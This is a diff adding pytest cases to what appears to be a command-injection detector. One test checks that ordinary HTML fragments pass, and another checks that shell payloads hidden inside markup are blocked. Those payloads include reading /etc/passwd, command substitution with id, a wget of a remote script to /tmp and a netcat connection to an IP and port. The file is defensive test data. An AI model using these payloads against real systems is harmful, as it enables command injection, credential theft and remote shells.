@@ -398,3 +398,23 @@ def test_a_command_word_globbed_inside_after_a_separator_is_read(value):
                                    "Tom & J?", "a; b? c"])
 def test_wildcards_at_a_words_end_or_start_are_text(value):
     assert not blocked(value), verdict(value)
+
+
+@pytest.mark.parametrize("value", [
+    # rich-text and generated HTML: end tags after words, `>(` after a tag, navigation lists
+    '<li><a href="querystring.html" class="nav-querystring">Query strings</a></li>\n<li><a href="x.html">More</a></li>',
+    '<div class="version">(e50aa6fba\t2026-05-19)</div><div class="sidebar">std</div>',
+    '<h2>Aliased type</h2>\n<span id="Type-Example-1"></span><h4 class="subsection">2.3.5 Type</h4>',
+    "<p>The <code>strings</code> tool prints text.</p>\n<p>See <em>more</em></p>",
+])
+def test_html_documents_are_no_command_lines(value):
+    v = verdict(value, "json")
+    assert v is None or v.severity < Severity.MEDIUM, v
+
+
+@pytest.mark.parametrize("value", [
+    "<p>hi</p><p>;cat /etc/passwd</p>", "<b>x</b>`id`", "<p>a</p><a x=$(id)>b</a>",
+    "<p>x</p><p>a && wget http://1.2.3.4/x.sh -O /tmp/x</p>", "x\ncat</etc/passwd", "a\">(nc 1.2.3.4 4444)",
+])
+def test_payloads_inside_markup_still_block(value):
+    assert blocked(value, "json"), value
